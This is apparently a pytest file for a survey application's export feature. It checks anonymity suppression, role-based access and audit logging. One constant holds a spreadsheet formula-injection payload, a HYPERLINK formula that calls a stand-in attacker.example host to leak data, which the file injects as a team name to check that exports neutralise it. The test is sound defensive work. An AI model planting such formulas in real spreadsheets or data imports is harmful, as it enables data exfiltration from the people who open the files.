"""Exports of the demo, read back as an analyst and as an attacker would: they hold the stored results, nothing else.

The demo (4 teams, seed 9) is analysed at a threshold of 11 employee respondents: Lille (B001) and Amiens (B003)
have 10 each, so the stored document withholds their employee side. Today's rules can be stricter still (13
respondents, 16 employees for customer figures): Arras (B002, 12 respondents, 15 employees invited) is then
withheld on both sides, as its pages withhold it, although its figures are stored.
"""

from __future__ import annotations

import io
import json
import math
import uuid
from collections import Counter
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from litestar.testing import AsyncTestClient

from surveys.accounts.guards import REFUSAL
from surveys.accounts.models import Role
from surveys.accounts.services import create_user
from surveys.app import create_app
from surveys.audit.models import AuditEvent
from surveys.catalog import translation
from surveys.cli import symmetry
from surveys.collection.models import Response
from surveys.db import alchemy_config
from surveys.instruments.models import InstrumentVersion
from surveys.instruments.services import stored_instrument
from surveys.org.models import Team
from surveys.results.models import TeamResultRow, WaveAnalysisRecord
from surveys.settings import Settings
from surveys.waves.models import Wave
from symmetry.domain import Instrument, Respondent
from tests.support import in_thread, run_sync

PASSWORD = "a long enough password"
ANALYSED_AT = {"SYMMETRY_ANONYMITY_THRESHOLD": "11", "SYMMETRY_COMMENT_THRESHOLD": "11"}
STRICTER = {
    "SYMMETRY_ANONYMITY_THRESHOLD": "13",
    "SYMMETRY_COMMENT_THRESHOLD": "13",
    "SYMMETRY_CUSTOMER_MINIMUM_EMPLOYEES": "16",
}
FORMULA_TEAM = '=HYPERLINK("http://attacker.example/?leak","Reims")'
FORMULA_PARENT = "@SUM(1+1)"
STATS = ("n", "mean", "ci_low", "ci_high")


def _demo(cli_env: dict[str, str], tmp_path: Path, *extra: str) -> str:
    env = {**cli_env, **ANALYSED_AT}
    arguments = ["demo", "--teams", "4", "--seed", "9", "--out", str(tmp_path / "demo"), "--workers", "1", *extra]
    result = CliRunner().invoke(symmetry, arguments, env=env)
    assert result.exit_code == 0, result.output
    return result.output.split("Wave: ")[1].split(",")[0]  # the latest wave, named after today's month


async def _stored(settings: Settings, wave_name: str) -> dict[str, Any]:
    """What the database holds of the wave, read here from the tables, independently of the export code."""
    config = alchemy_config(settings)
    try:
        async with config.get_session() as session:
            wave = await session.scalar(sa.select(Wave).where(Wave.name == wave_name))
            assert wave is not None
            teams = {team.id: team for team in await session.scalars(sa.select(Team))}
            results = [
                (teams[row.team_id].external_id, row.measure, row.voice, row.n, row.estimate, row.ci_low, row.ci_high)
                for row in await session.scalars(sa.select(TeamResultRow).where(TeamResultRow.wave_id == wave.id))
            ]
            document = (await session.get_one(WaveAnalysisRecord, wave.id)).document
            instrument = stored_instrument(await session.get_one(InstrumentVersion, wave.instrument_version_id))
            responses = [
                (teams[team_id].external_id, respondent, bytes(answers))
                for team_id, respondent, answers in await session.execute(
                    sa.select(Response.team_id, Response.respondent, Response.answers).where(
                        Response.wave_id == wave.id
                    )
                )
            ]
            return {
                "wave": wave,
                "names": {team.external_id: team.name for team in teams.values()},
                "results": results,
                "document": document,
                "instrument": instrument,
                "responses": responses,
            }
    finally:
        await config.get_engine().dispose()


async def _rename_with_formulas(settings: Settings) -> None:
    """What a hostile roster import does: team names a spreadsheet would run."""
    config = alchemy_config(settings)
    try:
        async with config.get_session() as session, session.begin():
            reims = await session.scalar(sa.select(Team).where(Team.external_id == "B004"))
            assert reims is not None and reims.parent_id is not None
            reims.name = FORMULA_TEAM
            parent = await session.get_one(Team, reims.parent_id)
            parent.name = FORMULA_PARENT
    finally:
        await config.get_engine().dispose()


async def _audit(settings: Settings) -> list[AuditEvent]:
    config = alchemy_config(settings)
    try:
        async with config.get_session() as session:
            return list(
                await session.scalars(
                    sa.select(AuditEvent).where(AuditEvent.action.like("export.%")).order_by(AuditEvent.occurred_at)
                )
            )
    finally:
        await config.get_engine().dispose()


def _decoded(instrument: Instrument, respondent: Respondent, packed: bytes) -> dict[str, int]:
    """A stored response's answers, decoded from the layout: a byte per item of its questionnaire, 255 unanswered."""
    items = instrument.items_for(respondent)
    assert len(packed) == len(items)
    return {item.id: value for item, value in zip(items, packed, strict=True) if value != 255}


def _withheld_raw_means(stored: dict[str, Any], teams: set[str]) -> set[float]:
    """The employee item means and overall means that the withheld teams' answers give: figures never released."""
    instrument = stored["instrument"]
    means: set[float] = set()
    for team in teams:
        answers = [
            _decoded(instrument, Respondent(respondent), packed)
            for key, respondent, packed in stored["responses"]
            if key == team and respondent == Respondent.EMPLOYEE
        ]
        assert answers
        for item in instrument.items_for(Respondent.EMPLOYEE):
            values = [a[item.id] for a in answers if item.id in a]
            means.add(float(np.mean(values)))
        for voice in ("employee", "mirror"):
            ids = [i.id for i in instrument.items_for(Respondent.EMPLOYEE) if i.voice.value == voice]
            means.add(float(np.mean([np.mean([a[i] for i in ids if i in a]) for a in answers])))
    released = {float(r[4]) for r in stored["results"]}
    return {m for m in means if not any(math.isclose(m, r, rel_tol=0, abs_tol=1e-12) for r in released)}


def _numbers(frame: pd.DataFrame) -> list[float]:
    cells = pd.to_numeric(frame.to_numpy().ravel(), errors="coerce")
    return [float(c) for c in cells if not math.isnan(c)]


def _assert_absent(values: set[float], frames: list[pd.DataFrame]) -> None:
    assert values, "the check must have withheld figures to look for"
    for frame in frames:
        for cell in _numbers(frame):
            assert not any(math.isclose(cell, v, rel_tol=0, abs_tol=1e-12) for v in values), cell


def _variable(measure: str, voice: str, stat: int, outcome_nps: bool = False) -> str:
    if voice == "outcome":
        return f"{measure}_{('n', 'score' if outcome_nps else 'mean', 'ci_low', 'ci_high')[stat]}"
    return f"{voice}_{measure}_{STATS[stat]}"


def _assert_team_frame(
    frame: pd.DataFrame,
    stored: dict[str, Any],
    employees_withheld: set[str],
    customers_withheld: set[str],
) -> None:
    """Every released stored figure is in the frame at full precision, and every withheld one is empty."""
    frame = frame.set_index("team_code")
    assert set(frame.index) == set(stored["document"]["teams"])
    respondent_of = {i.outcome: i.respondent.value for i in stored["instrument"].items if i.outcome}
    checked = 0
    for team, measure, voice, n, estimate, low, high in stored["results"]:
        nps = voice == "outcome" and measure in ("nps", "enps")
        side = respondent_of.get(measure, "customer" if voice == "customer" else "employee")
        if voice in ("employee", "mirror"):
            side = "employee"
        withheld = team in (employees_withheld if side == "employee" else customers_withheld)
        for stat, value in enumerate((n, estimate, low, high)):
            cell = frame.loc[team, _variable(measure, voice, stat, nps)]
            if withheld:
                assert pd.isna(cell), (team, measure, voice)
            elif value is None:
                assert pd.isna(cell)
            else:
                assert float(cell) == pytest.approx(value, rel=0, abs=1e-12), (team, measure, voice, stat)
                checked += 1
    assert checked > 100
    for team, entry in stored["document"]["teams"].items():
        shown = frame.loc[team, "employee_respondents"]
        if team in employees_withheld:
            assert pd.isna(shown)
            employee_columns = [
                c
                for c in frame.columns
                if c.startswith(("employee_", "mirror_", "enps_", "engagement_")) and c != "employee_figures"
            ]
            assert frame.loc[team, employee_columns].isna().all(), team  # the count goes with the figures
        else:
            assert int(shown) == entry["employee_respondents"]
        assert int(frame.loc[team, "customer_respondents"]) == entry["customer_respondents"]


def test_cli_exports_hold_the_stored_results_and_nothing_withheld(
    cli_env: dict[str, str], clean_database: Settings, tmp_path: Path
) -> None:
    wave_name = _demo(cli_env, tmp_path)
    run_sync(_rename_with_formulas(clean_database))
    stored = run_sync(_stored(clean_database, wave_name))
    document_withheld = {team for team, entry in stored["document"]["teams"].items() if entry["suppressed"]}
    assert document_withheld == {"B001", "B003"}  # the demo's teams of 10 respondents, at a threshold of 11
    runner = CliRunner()
    out = tmp_path / "out"

    def export(kind: str, file_format: str, language: str, env: dict[str, str] | None = None) -> Path:
        path = out / f"{kind}-{language}-{len(env or {})}.{file_format}"
        arguments = ["export", kind, wave_name, "--format", file_format, "--out", str(path), "--language", language]
        result = runner.invoke(symmetry, arguments, env={**cli_env, **(env or {})})
        assert result.exit_code == 0, result.output
        return path

    csv_frame = pd.read_csv(export("teams", "csv", "en"))
    workbook_path = export("teams", "xlsx", "fr")
    sheets = pd.read_excel(workbook_path, sheet_name=None, header=1)
    assert list(sheets) == ["Collaborateurs", "Miroir", "Clients", "Indicateurs de résultat", "À propos de cet export"]
    sav_fr, meta_fr = pyreadstat.read_sav(str(export("teams", "sav", "fr")))
    sav_en, meta_en = pyreadstat.read_sav(str(export("teams", "sav", "en")))

    customers: set[str] = set()
    for frame in (csv_frame, sav_fr, sav_en):
        _assert_team_frame(frame, stored, document_withheld, customers)
    merged = sheets["Collaborateurs"]
    for name in ("Miroir", "Clients", "Indicateurs de résultat"):
        sheet = sheets[name]
        merged = merged.merge(sheet[["team_code", *(c for c in sheet.columns if c not in merged)]], on="team_code")
    _assert_team_frame(merged, stored, document_withheld, customers)
    assert set(csv_frame["employee_figures"]) == {"shown", "withheld"}
    assert set(sheets["Collaborateurs"]["employee_figures"]) == {"affiché", "non affiché"}

    # Variable and value labels in the language asked for.
    assert meta_en.column_names_to_labels["employee_listening_mean"] == "Employees: Listening: mean"
    assert meta_fr.column_names_to_labels["employee_listening_mean"] == "Collaborateurs : Écoute : moyenne"
    assert (
        meta_fr.column_names_to_labels["nps_score"]
        == "NPS (recommandation de l'équipe par les clients) : score (-100 à 100)"
    )
    assert meta_en.variable_value_labels["employee_figures"] == {1.0: "shown", 2.0: "withheld"}
    assert meta_fr.variable_value_labels["employee_figures"] == {1.0: "affiché", 2.0: "non affiché"}

    # A team name from the roster that a spreadsheet would run comes out as text.
    reims = csv_frame.set_index("team_code").loc["B004"]
    assert reims["team"] == "'" + FORMULA_TEAM and reims["parent"] == "'" + FORMULA_PARENT
    book = openpyxl.load_workbook(workbook_path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
    assert sav_en.set_index("team_code").loc["B004", "team"] == FORMULA_TEAM  # SPSS runs no formula: the name as is

    # The withheld teams' own means are in no cell of any export.
    raw = _withheld_raw_means(stored, document_withheld)
    _assert_absent(raw, [csv_frame, sav_fr, sav_en, *sheets.values()])

    # Today's stricter rules withhold Arras too, on both sides, as its pages do: its figures are stored, not exported.
    assert any(team == "B002" and voice == "employee" for team, _, voice, *_ in stored["results"])
    strict = pd.read_csv(export("teams", "csv", "en", STRICTER))
    strict_sav, _ = pyreadstat.read_sav(str(export("teams", "sav", "en", STRICTER)))
    strict_sheets = pd.read_excel(export("teams", "xlsx", "en", STRICTER), sheet_name=None, header=1)
    for frame in (strict, strict_sav):
        _assert_team_frame(frame, stored, document_withheld | {"B002"}, {"B001", "B002", "B003"})
    _assert_absent(_withheld_raw_means(stored, {"B001", "B002", "B003"}), [strict, strict_sav, *strict_sheets.values()])
    arras = strict.set_index("team_code").loc["B002"]
    assert arras["employee_figures"] == "withheld" and arras["customer_figures"] == "withheld"

    events = run_sync(_audit(clean_database))
    assert [e.action for e in events] == ["export.teams"] * 7
    assert [e.details["format"] for e in events] == ["csv", "xlsx", "sav", "sav", "csv", "sav", "xlsx"]
    for event in events:
        assert event.target == wave_name and event.actor.startswith("cli:")
        assert set(event.details) <= {"format", "language", "teams", "teams_withheld", "variables"}
        assert all(isinstance(value, int | str) for value in event.details.values())
    assert events[0].details["teams"] == 4 and events[0].details["teams_withheld"] == 2
    assert events[4].details["teams_withheld"] == 3


def test_cli_response_data_leaves_out_what_the_gate_withholds(
    cli_env: dict[str, str], clean_database: Settings, tmp_path: Path
) -> None:
    wave_name = _demo(cli_env, tmp_path)
    stored = run_sync(_stored(clean_database, wave_name))
    instrument = stored["instrument"]
    runner = CliRunner()
    paths = {}
    for file_format, language in (("csv", "en"), ("sav", "fr"), ("sav", "en")):
        paths[file_format, language] = tmp_path / f"responses-{language}.{file_format}"
        arguments = ["export", "responses", wave_name, "--format", file_format, "--out",
                     str(paths[file_format, language]), "--language", language]  # fmt: skip
        result = runner.invoke(symmetry, arguments, env=cli_env)
        assert result.exit_code == 0, result.output
    data = pd.read_csv(paths["csv", "en"])
    codebook = json.loads((tmp_path / "responses-en.codebook.json").read_text(encoding="utf-8"))
    french, meta_fr = pyreadstat.read_sav(str(paths["sav", "fr"]))
    english, meta_en = pyreadstat.read_sav(str(paths["sav", "en"]))

    # No identity, id, date, channel or comment: the row number, the kind, the team's code, then the answers.
    item_ids = [i.id for i in instrument.items_for(Respondent.EMPLOYEE) + instrument.items_for(Respondent.CUSTOMER)]
    assert list(data.columns) == ["row", "respondent", "team", *(i.replace(".", "_") for i in item_ids)]
    assert list(data["row"]) == list(range(1, len(data) + 1))
    assert [v["name"] for v in codebook["variables"]] == list(data.columns)

    # Exactly the stored responses of the teams shown on each side, nothing of the withheld teams' employees.
    team_of_code = {entry["code"]: entry["team_code"] for entry in codebook["teams"]}
    exported = sorted(
        (
            "employee" if row["respondent"] == 1 else "customer",
            team_of_code[int(row["team"])],
            tuple(
                sorted((i, int(row[i.replace(".", "_")])) for i in item_ids if not pd.isna(row[i.replace(".", "_")]))
            ),
        )
        for _, row in data.iterrows()
    )
    expected = sorted(
        (str(respondent), team, tuple(sorted(_decoded(instrument, Respondent(respondent), packed).items())))
        for team, respondent, packed in stored["responses"]
        if not (respondent == Respondent.EMPLOYEE and team in {"B001", "B003"})
    )
    assert exported == expected
    assert not ((data["respondent"] == 1) & data["team"].map(team_of_code).isin(["B001", "B003"])).any()
    assert ((data["respondent"] == 2) & data["team"].map(team_of_code).isin(["B001", "B003"])).any()

    # A fresh random order each time.
    assert list(french["outcome_nps"].fillna(-1)) != list(english["outcome_nps"].fillna(-1))

    # Labels in both languages, in the file and in the codebook.
    assert (
        meta_en.column_names_to_labels["listening_employee"] == "Employees: My manager takes the time to listen to me."
    )
    assert meta_fr.column_names_to_labels["listening_employee"] == (
        "Collaborateurs : Mon responsable prend le temps de m'écouter."
    )
    assert meta_fr.variable_value_labels["listening_customer"][1.0] == "Pas du tout d'accord"
    assert meta_en.variable_value_labels["listening_customer"][5.0] == "Strongly agree"
    assert meta_en.variable_value_labels["respondent"] == {1.0: "employee", 2.0: "customer"}
    names = {float(entry["code"]): entry["name"] for entry in codebook["teams"]}
    assert meta_en.variable_value_labels["team"] == names == {1.0: "Amiens", 2.0: "Arras", 3.0: "Lille", 4.0: "Reims"}
    entry = next(v for v in codebook["variables"] if v["name"] == "outcome_enps")
    assert entry["scale"] == {"name": "nps", "low": 0, "high": 10} and entry["respondent"] == "employee"

    events = run_sync(_audit(clean_database))
    assert [e.action for e in events] == ["export.responses"] * 3
    assert events[0].details["rows"] == len(data) and events[0].details["teams_left_out"] == {
        "employee": 2,
        "customer": 0,
    }


def test_a_short_customer_form_exports_no_question_it_did_not_ask(
    cli_env: dict[str, str], clean_database: Settings, tmp_path: Path
) -> None:
    wave_name = _demo(cli_env, tmp_path, "--short-customers")
    runner = CliRunner()
    responses, teams = tmp_path / "responses.csv", tmp_path / "teams.sav"
    for kind, file_format, path in (("responses", "csv", responses), ("teams", "sav", teams)):
        arguments = ["export", kind, wave_name, "--format", file_format, "--out", str(path)]
        result = runner.invoke(symmetry, arguments, env=cli_env)
        assert result.exit_code == 0, result.output
    columns = set(pd.read_csv(responses).columns)
    assert {"listening_customer", "trust_customer", "outcome_nps"} <= columns
    assert not {"recognition_customer", "respect_customer", "outcome_csat", "outcome_ces"} & columns
    assert {"recognition_employee", "respect_mirror"} <= columns
    frame, _ = pyreadstat.read_sav(str(teams))
    assert "customer_listening_mean" in frame.columns and "employee_recognition_mean" in frame.columns
    assert not {"customer_recognition_mean", "customer_respect_n", "csat_mean", "ces_n"} & set(frame.columns)
    codebook = json.loads((tmp_path / "responses.codebook.json").read_text(encoding="utf-8"))
    assert "recognition.customer" not in {v.get("item") for v in codebook["variables"]}


async def _users(settings: Settings) -> None:
    config = alchemy_config(settings)
    try:
        async with config.get_session() as session, session.begin():
            organisation_id = await session.scalar(sa.select(Team.organisation_id).limit(1))
            await create_user(session, email="admin@demo.example", password=PASSWORD, role=Role.ADMIN,
                              organisation_id=None)  # fmt: skip
            await create_user(session, email="hr@demo.example", password=PASSWORD, role=Role.HR_LEAD,
                              organisation_id=organisation_id)  # fmt: skip
            await create_user(session, email="manager@demo.example", password=PASSWORD, role=Role.MANAGER,
                              organisation_id=organisation_id)  # fmt: skip
    finally:
        await config.get_engine().dispose()


async def _signed_in(client: AsyncTestClient, email: str) -> None:  # type: ignore[type-arg]
    await client.get("/login")
    data = {"email": email, "password": PASSWORD, "_csrf_token": client.cookies["csrftoken"]}
    signed_in = await client.post("/login", data=data)
    assert signed_in.status_code == 200 and "/login" not in str(signed_in.url)


async def test_web_exports_follow_the_roles_and_refuse_what_is_not_closed(
    cli_env: dict[str, str], clean_database: Settings, tmp_path: Path
) -> None:
    wave_name = in_thread(_demo, cli_env, tmp_path)
    stored = await _stored(clean_database, wave_name)
    wave_id = stored["wave"].id
    await _users(clean_database)
    runner = CliRunner()
    creating = ["wave", "create", "Next", "--org", "demo", "--opens", "2099-06-01", "--closes", "2099-06-30"]
    draft = in_thread(runner.invoke, symmetry, creating, None, cli_env)
    assert draft.exit_code == 0, draft.output
    draft_id = await _draft_id(clean_database)
    exporting = ["export", "teams", "Next", "--format", "csv", "--out", str(tmp_path / "no.csv")]
    refused_cli = in_thread(runner.invoke, symmetry, exporting, None, cli_env)
    assert refused_cli.exit_code == 2 and "only a closed wave can be exported" in refused_cli.output
    assert not (tmp_path / "no.csv").exists()

    app = create_app(clean_database)
    async with AsyncTestClient(app=app) as admin:
        await _signed_in(admin, "admin@demo.example")
        wave_page = await admin.get(f"/waves/{wave_id}")
        assert f"/waves/{wave_id}/exports" in wave_page.text
        listing = await admin.get(f"/waves/{wave_id}/exports")
        assert listing.status_code == 200 and "responses.sav" in listing.text
        files = {}
        for name, language in (("teams.csv", "en"), ("teams.xlsx", "fr"), ("teams.sav", "fr"),
                               ("responses.csv", "en"), ("responses.sav", "fr"), ("codebook.json", "en")):  # fmt: skip
            response = await admin.get(f"/waves/{wave_id}/exports/{name}", params={"language": language})
            assert response.status_code == 200, (name, response.text[:300])
            stem, _, extension = name.partition(".")
            assert response.headers["content-disposition"] == (
                f'attachment; filename="symmetry-{wave_name.lower().replace(" ", "-")}-{stem}-{language}.{extension}"'
            )
            assert response.headers["cache-control"] == "no-store"
            files[name] = response.content
        teams = pd.read_csv(io.BytesIO(files["teams.csv"]))
        withheld = {team for team, entry in stored["document"]["teams"].items() if entry["suppressed"]}
        _assert_team_frame(teams, stored, withheld, set())
        sav_path = tmp_path / "web.sav"
        sav_path.write_bytes(files["teams.sav"])
        frame, meta = pyreadstat.read_sav(str(sav_path))
        _assert_team_frame(frame, stored, withheld, set())
        assert meta.column_names_to_labels["customer_overall_mean"] == "Clients : Ensemble : moyenne"
        _assert_absent(_withheld_raw_means(stored, withheld), [teams, frame])
        book = json.loads(files["codebook.json"])
        assert len(pd.read_csv(io.BytesIO(files["responses.csv"]))) == book["rows"]

        unknown = await admin.get(f"/waves/{wave_id}/exports/teams.pdf")
        assert unknown.status_code == 404 and "teams.csv" in unknown.text
        german = await admin.get(f"/waves/{wave_id}/exports/teams.csv", params={"language": "de"})
        assert german.status_code == 400 and "language" in german.text
        not_closed = await admin.get(f"/waves/{draft_id}/exports/teams.csv")
        assert not_closed.status_code == 409
        assert (await admin.get(f"/waves/{draft_id}/exports")).status_code == 409
        nowhere = await admin.get(f"/waves/{uuid.uuid4()}/exports/teams.csv")
        assert nowhere.status_code == 403

    async with AsyncTestClient(app=app) as lead:
        await _signed_in(lead, "hr@demo.example")
        listing = await lead.get(f"/waves/{wave_id}/exports")
        assert listing.status_code == 200 and "responses.sav" not in listing.text
        assert (await lead.get(f"/waves/{wave_id}/exports/teams.xlsx")).status_code == 200
        refusal = translation("fr").gettext(REFUSAL)
        for name in ("responses.csv", "responses.sav", "codebook.json"):
            refused = await lead.get(f"/waves/{wave_id}/exports/{name}")
            assert refused.status_code == 403 and refusal in refused.text.replace("&#39;", "'")
        elsewhere = await lead.get(f"/waves/{uuid.uuid4()}/exports/responses.csv")
        assert elsewhere.text == refused.text  # the refusal tells nothing of what exists

    async with AsyncTestClient(app=app) as manager:
        await _signed_in(manager, "manager@demo.example")
        assert (await manager.get(f"/waves/{wave_id}/exports/teams.csv")).status_code == 403

    events = await _audit(clean_database)
    assert [(e.action, e.details["format"]) for e in events] == [
        ("export.teams", "csv"), ("export.teams", "xlsx"), ("export.teams", "sav"), ("export.responses", "csv"),
        ("export.responses", "sav"), ("export.codebook", "json"), ("export.teams", "xlsx"),
    ]  # fmt: skip
    assert {e.actor for e in events} == {"admin@demo.example", "hr@demo.example"}
    names = set(stored["names"].values())
    for event in events:
        assert not any(name in json.dumps(event.details, ensure_ascii=False) for name in names)


async def _draft_id(settings: Settings) -> uuid.UUID:
    config = alchemy_config(settings)
    try:
        async with config.get_session() as session:
            found = await session.scalar(sa.select(Wave.id).where(Wave.name == "Next"))
            assert found is not None
            return found
    finally:
        await config.get_engine().dispose()


def test_employee_rows_come_only_from_teams_at_the_comment_threshold(
    cli_env: dict[str, str], clean_database: Settings, tmp_path: Path
) -> None:
    # Analysed at 5 respondents for figures and 12 for comments: the teams of 10 show figures but not their rows.
    env = {**cli_env, "SYMMETRY_ANONYMITY_THRESHOLD": "5", "SYMMETRY_COMMENT_THRESHOLD": "12"}
    arguments = ["demo", "--teams", "4", "--seed", "9", "--out", str(tmp_path / "demo"), "--workers", "1"]
    demo = CliRunner().invoke(symmetry, arguments, env=env)
    assert demo.exit_code == 0, demo.output
    wave_name = demo.output.split("Wave: ")[1].split(",")[0]
    stored = run_sync(_stored(clean_database, wave_name))
    employees = Counter(team for team, respondent, _ in stored["responses"] if respondent == Respondent.EMPLOYEE)
    between = {team for team, count in employees.items() if 5 <= count < 12}
    above = {team for team, count in employees.items() if count >= 12}
    assert between and above, employees  # the demo must try both sides of the rule
    out = tmp_path / "responses.csv"
    exported = CliRunner().invoke(symmetry, ["export", "responses", wave_name, "--format", "csv", "--out", str(out)],
                                  env=env)  # fmt: skip
    assert exported.exit_code == 0, exported.output
    data = pd.read_csv(out)
    codebook = json.loads((tmp_path / "responses.codebook.json").read_text(encoding="utf-8"))
    team_of_code = {entry["code"]: entry["team_code"] for entry in codebook["teams"]}
    rows = Counter(zip(data["respondent"], data["team"].map(team_of_code), strict=True))
    assert {team for respondent, team in rows if respondent == 1} == above
    assert all(rows[1, team] == employees[team] for team in above)
    assert {team for respondent, team in rows if respondent == 2} >= between  # their customers' rows stay
